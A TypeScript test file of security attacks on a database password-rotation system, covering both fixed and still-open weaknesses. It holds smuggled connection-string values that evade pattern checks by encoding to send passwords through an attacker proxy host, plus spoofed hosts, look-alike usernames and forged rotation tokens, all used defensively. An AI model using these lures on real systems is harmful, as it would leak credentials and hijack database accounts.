import { MongoClient } from 'mongodb';
import { describe, expect, it } from 'vitest';
import { HostNotFoundError } from '../../functions/contract/errors.ts';
import {
  ADMIN_SECRET_TAG,
  RETIREMENT_POLICY_TAG,
  STRATEGY_TAG,
  USER_TAG,
} from '../../functions/contract/tags.ts';
import type { Database, Session } from '../../functions/database/database.ts';
import { markerOf } from '../../functions/secret/marker.ts';
import { versionIdsOf } from '../../functions/secret/version-ids.ts';
import { CLUSTER, INSTANCES, READ_WRITE } from '../support/in-memory-database.ts';
import { newPassword, newVersionId } from '../support/in-memory-secret-store.ts';
import { PortCalls } from '../support/port-calls.ts';
import { executionArn, RetirementMachine } from '../support/rotation-machine.ts';
import { portsOf } from '../support/rotation-steps.ts';
import { ADMIN_SECRET, SECRET } from '../support/rotation-world.ts';
import { Arena, EVIL_HOST, OTHER_USER } from './power/arena.ts';
import {
  atEachMoment,
  callsAt,
  enter,
  enterNew,
  mallory,
  PAIRS,
  recordIn,
  rotateUntilGrace,
} from './power/enter.ts';
import type { Right } from './power/rights.ts';
import { WORLDS } from './power/worlds.ts';

/*
 * A ninth reviewer's attacks: on the tag that names the user, on what a rotation at a host of the writer's own leaves on record, and on
 * connection strings as drivers read them.
 */

const OWNER = 'docdb-rotation-owner';

const currentValue = (arena: Arena): Record<string, unknown> =>
  JSON.parse(arena.world.store.valueOf(SECRET, arena.current()) ?? '{}');

/** Both labels of the execution that has them. */
const giveLock = (arena: Arena, execution: string): string =>
  arena.write(markerOf(execution, []), [OWNER, 'AWSPENDING'], versionIdsOf(execution)[0]);

/** An honest person changes one key of AWSCURRENT by hand. */
const editByHand = (arena: Arena, keys: Record<string, unknown>): void => {
  const value = JSON.stringify({ ...currentValue(arena), ...keys });
  arena.world.store.putWithId(SECRET, newVersionId(), value, ['AWSCURRENT']);
};

/** Whether the replaced user is out, or the operators hear that it is not. */
const isOutOrTold = async (arena: Arena, input: Record<string, unknown>, old: object | undefined) => {
  const machine = new RetirementMachine(arena.world, { calls: new PortCalls() });
  const { status } = await machine.run(executionArn(arena.nextName(), 'retirement'), input);
  const isOut = !arena.world.database.accepts(old as { username: string; password: string });
  return isOut || (status === 'FAILED' && machine.notices.length > 0);
};

/** What a login at a host of mine comes to. */
const serveAtMine = (arena: Arena, answer: (session: Session | undefined) => Session | undefined): void => {
  const { database } = arena.world;
  const original = database.port.bind(database);
  database.port = (gate) => {
    const port: Database = original(gate);
    return {
      login: async (login) => {
        const session = await port.login(login);
        return login.host === EVIL_HOST ? answer(session) : session;
      },
    };
  };
};

/** A server of mine that has no user but those that a rotation makes there. */
const withEmptyServer = (arena: Arena): Arena => {
  serveAtMine(arena, (session) => session && { ...session, findUser: async () => undefined });
  return arena;
};

/** The server of mine is gone. */
const closeServer = (arena: Arena): void =>
  serveAtMine(arena, () => {
    throw new HostNotFoundError('there is no such host');
  });

/** A single user's secret; the attacker, or someone else, has a user of the name that its clone would have. */
const enterSingle = (rights: Right[]): Arena => {
  const world = WORLDS['single-user'];
  if (world === undefined) throw new Error('there is no such world');
  return new Arena(rights, { ...world, pair: 'the attacker’s' });
};

/** What Node.js's own driver makes of it: whom it tells the password, and how. */
const readByDriver = (uri: string) => {
  const { proxyHost, tls, credentials } = new MongoClient(uri).options;
  return { proxyHost, tls, mechanism: credentials?.mechanism };
};

const userTagIn = async (arena: Arena) =>
  (await portsOf(arena.world).secrets.describe(SECRET)).tags[USER_TAG];

const otherOf = (arena: Arena): string =>
  arena.world.credentialOf(arena.current())?.username === arena.user ? arena.pairUser : arena.user;

/** Options that say the same to a driver, and to no pattern of letters. */
const LURES = [
  `?%70roxyHost=${EVIL_HOST}&tls=false&authMech%61nism=PLAIN`,
  `?pro%78yHost=${EVIL_HOST}&tls=false`,
  // No password is sent there, but all that is said after the login: the proxy speaks as the user.
  `?proxyHost=SCRAM-${EVIL_HOST}&tls=false`,
];

/** As the drivers for Java separate options: https://github.com/mongodb/mongo-java-driver, ConnectionString.parseOptions. */
const SEMICOLONS = `?tls=false;proxyHost=${EVIL_HOST};authMechanism=PLAIN`;

/* How he got in: each holds now. */
describe('what got in once:', () => {
  // embedded-credentials.ts looks for names of options in the text; drivers decode it, take ";" for "&", and a proxy is one, whatever its name begins with.
  it.each(LURES)('a driver goes by way of my host: %s', (lure) => {
    const { proxyHost, tls } = readByDriver(`mongodb://app:secret@${CLUSTER}/${lure}`);
    expect(proxyHost?.toLowerCase()).toContain(EVIL_HOST);
    expect(tls).toBe(false);
  });

  it.each(
    ['single-user', ...PAIRS].flatMap((name) => [...LURES, SEMICOLONS].map((lure) => [lure, name] as const)),
  )(
    'write: a connection string for the cluster by way of my host, in a value of which an operator mends the password: it gets the next password: %s, %s',
    async (lure, name) => {
      const arena = enter(name, ['write']);
      const { password } = currentValue(arena);
      const uri = `mongodb://${arena.user}:outdated@${CLUSTER}/${lure}`;
      arena.write({ password: newPassword(), uri });
      editByHand(arena, { password });
      await arena.honest.rotate();
      expect(currentValue(arena).uri).toBe(uri);
    },
  );

  it.each(PAIRS)(
    'write + read: the replaced user’s value as AWSCURRENT in the grace, seen by a recovery, and afterwards AWSCURRENT of before: it keeps the password that I read, and no one is told: %s',
    async (name) => {
      const arena = enter(name, ['write', 'read'], { retirementPolicy: 'lock' });
      const old = currentValue(arena);
      const input = await rotateUntilGrace(arena);
      const now = currentValue(arena);
      arena.read();
      arena.write(old);
      await arena.honest.recover();
      const isFine = await isOutOrTold(arena, input, old);
      arena.write(now);
      await arena.honest.recover();
      expect(isFine || !arena.world.database.accepts(old as never)).toBe(true);
    },
  );

  it('write: of a single user’s secret, a user of the name that its clone would have, whose password I know: the admin’s power changes it', async () => {
    const arena = enterSingle(['write']);
    await arena.honest.rotate();
    arena.write({ username: arena.pairUser, password: arena.ownPassword });
    await arena.honest.scheduled();
    expect(arena.world.database.user(arena.pairUser)?.password).toBe(arena.ownPassword);
  });

  it('write: the same: what is right is off the record, and no recovery finds it', async () => {
    const arena = enterSingle(['write']);
    await arena.honest.rotate();
    const right = arena.current();
    arena.write({ username: arena.pairUser, password: arena.ownPassword });
    await arena.honest.scheduled();
    for (const number of [1, 2]) arena.write(`none ${number}`);
    await arena.honest.recover();
    expect(arena.current()).toBe(right);
  });

  it.each(['single-user', ...PAIRS])(
    'write: my host in AWSCURRENT, seen by a recovery, then two values that do not log in: no recovery tries what is on record for the right host: %s',
    async (name) => {
      const arena = enter(name, ['write']);
      await arena.honest.rotate();
      const right = arena.current();
      const username = arena.world.credentialOf(right)?.username;
      arena.write({ username, password: newPassword(), host: EVIL_HOST });
      await arena.honest.recover();
      closeServer(arena);
      for (const number of [1, 2]) arena.write({ username, password: newPassword(), number });
      await arena.honest.recover();
      expect(arena.current()).toBe(right);
    },
  );

  it('write: my own user as AWSCURRENT in the first rotation, and the right one back before the promotion: all is as before, says the end, but the tag names mine, and the right one is refused', async () => {
    await atEachMoment(async (moment) => {
      const arena = enterNew('alternating-users', ['write']);
      const right = arena.current();
      arena.write(mallory(arena));
      const { error } = await arena.honest.rotate(moment, () => arena.honest.putBack(right));
      if (error === 'RolledBack') expect((await arena.honest.rotate()).error).toBeUndefined();
      return arena;
    }, 8);
  });

  it('write: a host of mine says that my user changed itself, the tag follows, and once the secret is a pair’s the admin’s power makes mine a second one', async () => {
    const arena = enter('single-user that changes itself', ['write'], { admin: true });
    const { store, database } = arena.world;
    store.removeTag(SECRET, ADMIN_SECRET_TAG);
    const right = arena.current();
    arena.write({ ...mallory(arena), host: EVIL_HOST });
    await arena.honest.scheduled();
    arena.honest.putBack(right);
    await arena.honest.recover();
    store.setTag(SECRET, ADMIN_SECRET_TAG, ADMIN_SECRET);
    store.setTag(SECRET, STRATEGY_TAG, 'alternating-users');
    arena.write(mallory(arena));
    await arena.honest.rotate();
    expect(database.user('mallory_clone')).toBeUndefined();
  });

  it('write: a revert sets another team’s password, of which I know what it was and what it is, by the admin’s power', async () => {
    const arena = enter('single-user', ['write']);
    await arena.honest.rotate();
    const { database } = arena.world;
    const [one, two] = [newPassword(), newPassword()];
    database.addUser(OTHER_USER, one, READ_WRITE);
    arena.write({ username: OTHER_USER, password: one });
    await arena.honest.recover();
    database.addUser(OTHER_USER, two, READ_WRITE);
    arena.write({ username: OTHER_USER, password: two });
    await arena.honest.rotate(undefined, undefined, 'revert');
    expect(database.user(OTHER_USER)?.password).toBe(two);
  });

  it('write + start: a check tells whether a user exists, after the first rotation too', async () => {
    const answerFor = async (username: string) => {
      const arena = enter('single-user', ['write', 'start']);
      await arena.honest.rotate();
      arena.write({ username, password: newPassword() });
      return (await arena.start({ mode: 'check' })).cause?.replaceAll(username, 'X');
    };
    expect(await answerFor(OTHER_USER)).toBe(await answerFor('no-one'));
  });

  it.each(PAIRS)(
    'write: one value with AWSCURRENT and the lock, in the first rotation: the recovery promotes the new user, nothing shows whose the first one is, and every later rotation is refused: %s',
    async (name) => {
      const arena = enterNew(name, ['write']);
      await arena.honest.rotate(30, () => arena.write('none', ['AWSCURRENT', OWNER]));
      await arena.honest.recover();
      expect(arena.world.logsIn(arena.current())).toBe(true);
      expect((await arena.honest.rotate()).error).toBeUndefined();
    },
  );

  it.each(PAIRS)(
    'write + read: the same: the user that the first rotation replaces keeps the password that I read: %s',
    async (name) => {
      const arena = enterNew(name, ['write', 'read'], { retirementPolicy: 'lock' });
      const [old] = arena.read();
      await arena.honest.rotate(30, () => arena.write('none', ['AWSCURRENT', OWNER]));
      await arena.honest.recover();
      for (let time = 0; time < 2; time++) await arena.honest.rotate();
      expect(old && arena.world.database.accepts(old)).toBe(false);
    },
  );
});

/* What SECURITY names under what remains: each fails as long as it does. */
describe('what remains:', () => {
  // A rotation at another place than the proven versions would have to be refused, as one for another user is.
  it.fails.each(['lock', 'keep'])(
    'write: a rotation at a host of mine, under the secret’s own name: the pair is off the record, and with the right value back every later rotation is refused: %s',
    async (retirementPolicy) => {
      const arena = withEmptyServer(enter('admin-clone', ['write'], { retirementPolicy }));
      await arena.honest.rotate();
      const right = arena.current();
      const username = arena.world.credentialOf(right)?.username;
      arena.write({ username, password: newPassword(), host: EVIL_HOST });
      await arena.honest.scheduled();
      arena.honest.putBack(right);
      await arena.honest.recover();
      expect(arena.world.logsIn(arena.current())).toBe(true);
      expect((await arena.honest.rotate()).error).toBeUndefined();
    },
  );

  // The tag would have to stay where another execution has named the user meanwhile: "a tag written late says the same as before" holds only once it is there.
  it.fails('write + start: the tag of a first rotation of my own user, late, over that of a right one', async () => {
    await atEachMoment(async (moment) => {
      const arena = enterNew('alternating-users', ['write', 'start']);
      const right = arena.current();
      let named: string | undefined;
      arena.write(mallory(arena));
      await arena.honest.rotate(moment, async () => {
        arena.honest.putBack(right);
        giveLock(arena, executionArn('chosen'));
        await arena.start({}, 'chosen');
        named = await userTagIn(arena);
      });
      if (named === arena.user) expect(await userTagIn(arena)).toBe(named);
      return arena;
    }, 8);
  });

  // A recovery would have to disable what is on record as unfinished whatever the strategy is by now.
  it.fails('write + read: a first rotation loses the lock, and the secret is switched to single-user before the recovery: the user that it made stays, with a password that I read', async () => {
    await atEachMoment(async (moment) => {
      const arena = enterNew('alternating-users', ['write', 'read']);
      await arena.honest.rotate(moment, () => {
        arena.write('none', OWNER);
        arena.world.store.setTag(SECRET, STRATEGY_TAG, 'single-user');
      });
      await arena.honest.recover();
      await arena.honest.rotate();
      expect(
        arena
          .read()
          .filter((one) => one.username === otherOf(arena))
          .some((one) => arena.world.database.accepts(one)),
      ).toBe(false);
      return arena;
    }, 8);
  });

  // The versions of a pair would have to be read at any place of the cluster, or the rotation to keep what it could not read.
  it.fails('write + read: a pair is switched to single-user, and my AWSCURRENT names an instance for a host: the user that is left behind is forgotten, and keeps the password that I read', async () => {
    const arena = enter('admin-clone', ['write', 'read'], { retirementPolicy: 'keep' });
    await arena.honest.rotate();
    const { store, database } = arena.world;
    const old = arena.read().filter(({ username }) => username === otherOf(arena));
    store.setTag(SECRET, STRATEGY_TAG, 'single-user');
    store.setTag(SECRET, RETIREMENT_POLICY_TAG, 'lock');
    arena.write({ ...currentValue(arena), host: INSTANCES[0] });
    await arena.honest.rotate();
    editByHand(arena, { host: CLUSTER });
    for (let time = 0; time < 2; time++) await arena.honest.rotate();
    expect(old.some((one) => database.accepts(one))).toBe(false);
  });
});

describe('what is prevented:', () => {
  it('the switch to single-user alone, at AWSCURRENT’s usual host: the user that is left behind is retired', async () => {
    const arena = enter('admin-clone', ['write', 'read'], { retirementPolicy: 'keep' });
    await arena.honest.rotate();
    const { store, database } = arena.world;
    const old = arena.read().filter(({ username }) => username === otherOf(arena));
    expect(old.some((one) => database.accepts(one))).toBe(true);
    store.setTag(SECRET, STRATEGY_TAG, 'single-user');
    store.setTag(SECRET, RETIREMENT_POLICY_TAG, 'lock');
    await arena.honest.rotate();
    expect(old.some((one) => database.accepts(one))).toBe(false);
  });

  it('the same first rotation that loses the lock, without the switch: the user that it made is dropped', async () => {
    await atEachMoment(async (moment) => {
      const arena = enterNew('alternating-users', ['write', 'read']);
      await arena.honest.rotate(moment, () => arena.write('none', OWNER));
      await arena.honest.recover();
      const others = arena.read().filter((one) => one.username === arena.pairUser);
      if (arena.world.credentialOf(arena.current())?.username === arena.user)
        expect(others.some((one) => arena.world.database.accepts(one))).toBe(false);
      expect(arena.gained().filter((want) => want !== 'user')).toEqual([]);
      return arena;
    }, 8);
  });

  it.each(['single-user', ...PAIRS])(
    'names that read like the one on record, by any strategy: no user is made or changed: %s',
    async (name) => {
      for (const alike of [
        'app ',
        ' app',
        'app\n',
        'App',
        'app\u200b',
        'app\u0000',
        'app_Clone',
        'app_clone_clone',
        'app_clone ',
        '_clone',
        '=app',
        'app_clone_',
        'ａpp',
        '__proto__',
      ]) {
        const arena = enter(name, ['write']);
        const { database } = arena.world;
        await arena.honest.rotate();
        const username = arena.user === 'app' ? alike : alike.replaceAll('app', 'boss');
        database.addUser(username, arena.ownPassword, READ_WRITE);
        const before = database.usernames().map((each) => [each, { ...database.user(each) }]);
        arena.write({ username, password: arena.ownPassword });
        expect((await arena.honest.rotate()).error, alike).toBe('UntrustedVersionError');
        await arena.honest.scheduled();
        await arena.honest.recover();
        await arena.honest.rotate();
        expect(database.usernames().map((each) => [each, { ...database.user(each) }])).toEqual(before);
      }
    },
  );

  it.each(['ünïcode', 'a b', '=a', 'a\u0000b'])(
    'a name that stands as a hash: its hash as a user of mine is no one: %s',
    async (username) => {
      for (const name of PAIRS) {
        const arena = enterNew(name, ['write'], { username });
        const { database } = arena.world;
        expect((await arena.honest.rotate()).error).toBeUndefined();
        const tag = await userTagIn(arena);
        expect(tag).toMatch(/^=[0-9a-f]{64}$/);
        for (const mine of [tag?.slice(0, 63) ?? '', tag?.slice(1, 64) ?? '', '=']) {
          database.addUser(mine, arena.ownPassword, READ_WRITE);
          arena.write({ username: mine, password: arena.ownPassword });
          expect((await arena.honest.rotate()).error).toBe('UntrustedVersionError');
        }
        expect((await recordIn(arena)).length).toBeGreaterThan(1);
      }
    },
  );

  it.each(PAIRS)(
    'my own user as AWSCURRENT at each moment of a rotation, a revert and a recovery: the tag stays, and with the right value back rotations go on: %s',
    async (name) => {
      for (const mode of ['rotate', 'revert'])
        await atEachMoment(
          async (moment) => {
            const arena = enter(name, ['write'], { retirementPolicy: 'keep' });
            await arena.honest.rotate();
            const right = arena.current();
            await arena.honest.rotate(moment, () => arena.write(mallory(arena)), mode);
            await arena.honest.recover();
            if (
              arena.world.credentialOf(arena.current())?.username === 'mallory' &&
              arena.world.logsIn(right)
            )
              arena.honest.putBack(right);
            await arena.honest.recover();
            expect(await userTagIn(arena)).toBe(arena.user);
            if (arena.world.credentialOf(arena.current())?.username !== 'mallory')
              expect((await arena.honest.rotate()).error).toBeUndefined();
            expect(arena.gained().filter((want) => want !== 'outage')).toEqual([]);
            return arena;
          },
          5,
          5,
        );
    },
  );

  it.each(
    ['rotate', 'revert'].flatMap((mode) => ['single-user', ...PAIRS].map((name) => [mode, name] as const)),
  )(
    'recover alone: a recovery of mine at each moment: no user stays, and AWSCURRENT logs in: %s, %s',
    async (mode, name) => {
      await atEachMoment(
        async (moment) => {
          const arena = enter(name, ['recover'], { retirementPolicy: 'lock' });
          await arena.honest.rotate();
          await arena.honest.rotate(moment, () => arena.recover(), mode);
          await arena.honest.recover();
          expect((await arena.honest.rotate()).error).toBeUndefined();
          expect(arena.gained()).toEqual([]);
          return arena;
        },
        4,
        3,
      );
    },
  );

  it.each(PAIRS)(
    'recover alone: a recovery of mine at each moment of a retirement: the user is out, or the operators are told: %s',
    async (name) => {
      await atEachMoment(async (moment) => {
        const arena = enter(name, ['recover'], { retirementPolicy: 'lock' });
        const old = arena.world.credentialOf(arena.current());
        const input = await rotateUntilGrace(arena);
        const machine = new RetirementMachine(arena.world, {
          calls: callsAt(arena, moment, () => arena.recover()),
        });
        const { status } = await machine.run(executionArn('grace', 'retirement'), input);
        const isOut = old !== undefined && !arena.world.database.accepts(old);
        expect(isOut || (status === 'FAILED' && machine.notices.length > 0)).toBe(true);
        return arena;
      });
    },
  );

  it.each(PAIRS)('write alone: the lock of a retirement taken at each moment: the same: %s', async (name) => {
    await atEachMoment(async (moment) => {
      const arena = enter(name, ['write'], { retirementPolicy: 'lock' });
      const old = arena.world.credentialOf(arena.current());
      const input = await rotateUntilGrace(arena);
      const machine = new RetirementMachine(arena.world, {
        calls: callsAt(arena, moment, () => arena.write('none', OWNER)),
      });
      const { status } = await machine.run(executionArn('grace', 'retirement'), input);
      const isOut = old !== undefined && !arena.world.database.accepts(old);
      expect(isOut || (status === 'FAILED' && machine.notices.length > 0)).toBe(true);
      return arena;
    });
  });

  it('start alone: two rotations of mine in the grace of a user that a switch to single-user left behind: the operators are told of it', async () => {
    const arena = enter('admin-clone', ['start'], { retirementPolicy: 'keep' });
    await arena.honest.rotate();
    const { store, database } = arena.world;
    store.setTag(SECRET, STRATEGY_TAG, 'single-user');
    store.setTag(SECRET, RETIREMENT_POLICY_TAG, 'lock');
    const left = otherOf(arena);
    const old = { username: left, password: database.user(left)?.password ?? '' };
    const input = await rotateUntilGrace(arena);
    for (let time = 0; time < 2; time++) await arena.start();
    expect(await isOutOrTold(arena, input, old)).toBe(true);
  });

  it('of a single user’s secret, my own user of its clone’s name, and a switch to a pair: it gets no roles', async () => {
    const arena = enterSingle(['write', 'start']);
    await arena.honest.rotate();
    const right = arena.current();
    arena.write({ username: arena.pairUser, password: arena.ownPassword });
    await arena.honest.recover();
    await arena.start();
    arena.honest.putBack(right);
    await arena.honest.recover();
    arena.world.store.setTag(SECRET, STRATEGY_TAG, 'alternating-users');
    for (const mode of ['rotate', 'revert', 'rotate']) {
      await arena.start({ mode });
      arena.write({ username: arena.pairUser, password: arena.ownPassword }, 'AWSPREVIOUS');
    }
    expect(arena.gained().filter((want) => want !== 'outage')).toEqual([]);
    expect(arena.world.database.user(arena.pairUser)?.roles).toEqual([{ role: 'read', db: 'blog' }]);
  });

  it.each(['single-user', ...PAIRS])(
    'a host of mine in AWSCURRENT, seen by a recovery or rotated there, and a revert to it: no password of mine is set where the users are: %s',
    async (name) => {
      for (const act of ['recover', 'scheduled'] as const)
        for (const mode of ['rotate', 'revert']) {
          const arena = withEmptyServer(enter(name, ['write', 'start']));
          await arena.honest.rotate();
          const right = arena.current();
          const username = arena.world.credentialOf(right)?.username;
          arena.write({ ...arena.mine(username), host: EVIL_HOST });
          await arena.honest[act]();
          arena.honest.putBack(right);
          await arena.start({ mode });
          await arena.honest.recover();
          arena.write({ ...arena.mine(username), host: EVIL_HOST }, 'AWSPREVIOUS');
          await arena.start({ mode });
          expect(arena.gained().filter((want) => want !== 'outage')).toEqual([]);
        }
    },
  );

  it.each(['single-user', ...PAIRS])(
    'a token of Secrets Manager’s own rotation, in executions of mine with names like its own: %s',
    async (name) => {
      const arena = enter(name, ['write', 'start']);
      await arena.honest.rotate();
      const before = JSON.stringify(arena.world.store.labels(SECRET));
      const value = currentValue(arena);
      for (const [index, token] of arena.versions().entries())
        for (const attempt of [1, 2]) {
          const ending = await arena.start({ token }, `mine${index}-${attempt}`);
          expect(['UnknownTokenError', 'UntrustedVersionError', 'RotationSupersededError']).toContain(
            ending.error,
          );
        }
      expect(JSON.stringify(arena.world.store.labels(SECRET))).toBe(before);
      expect(currentValue(arena)).toEqual(value);
      expect(arena.gained()).toEqual([]);
    },
  );

  it.each(PAIRS)(
    'a marker of mine, with the lock, that names each version, and a recovery: no user of the pair is lost: %s',
    async (name) => {
      const arena = enter(name, ['write', 'recover'], { retirementPolicy: 'keep' });
      await arena.honest.rotate();
      const { database } = arena.world;
      const before = [arena.user, arena.pairUser].map((each) => ({ ...database.user(each) }));
      const execution = executionArn('mine');
      arena.write(markerOf(execution, arena.versions()), OWNER, versionIdsOf(execution)[0]);
      expect((await arena.recover()).status).toBe('SUCCEEDED');
      expect([arena.user, arena.pairUser].map((each) => ({ ...database.user(each) }))).toEqual(before);
      expect(arena.gained()).toEqual([]);
      expect((await arena.honest.rotate()).error).toBeUndefined();
    },
  );

  it.each([
    `${CLUSTER}@${EVIL_HOST}`,
    `${CLUSTER}%2C${EVIL_HOST}`,
    `${CLUSTER}\\${EVIL_HOST}`,
    `${CLUSTER}#@${EVIL_HOST}`,
    `${CLUSTER}:27017,${EVIL_HOST}:27017`,
    `.${CLUSTER}`,
    `${CLUSTER}:27017:${EVIL_HOST}`,
    `%2F${CLUSTER}`,
    `${CLUSTER};${EVIL_HOST}`,
  ])('a connection string with an older password, whose host reads like the secret’s: %s', async (host) => {
    for (const name of ['single-user', ...PAIRS]) {
      const arena = enter(name, ['write']);
      const { password } = currentValue(arena);
      const uri = `mongodb://${arena.user}:outdated@${host}/`;
      arena.write({ password: newPassword(), uri });
      editByHand(arena, { password });
      expect((await arena.honest.rotate()).error).toBeUndefined();
      expect(currentValue(arena).uri).toBe(uri);
    }
  });
});
